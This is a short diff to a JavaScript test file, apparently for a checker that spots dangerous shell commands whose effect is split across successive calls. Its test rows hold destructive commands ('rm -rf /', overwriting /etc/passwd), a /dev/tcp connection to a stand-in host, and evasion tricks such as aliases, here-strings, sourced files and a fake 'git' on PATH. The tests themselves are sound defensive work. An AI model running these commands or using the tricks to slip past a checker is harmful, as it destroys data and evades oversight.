@@ -498,6 +498,8 @@ describe('what one call leaves behind, the next one finds', () => {
     ["alias g='rm -rf /'", 'g', 'exec rm -rf /'],
     ['X=rm', '$X /', 'exec rm /'],
     ['cd /etc', 'echo x > passwd', 'write /etc/passwd'],
+    ["exec <<< 'rm /'", 'sh', 'exec rm / (sh)'],
+    ['exec 3> /dev/tcp/h.example/80', 'echo x >&3', 'connect h.example:80'],
     ["echo 'rm /' > a; echo ls >> a", '. ./a', 'exec rm / (source)'],
     ["printf 'rm /\\n' > /tmp/git", 'PATH=/tmp:$PATH git status', 'exec rm / (git, bash)'],
   ];
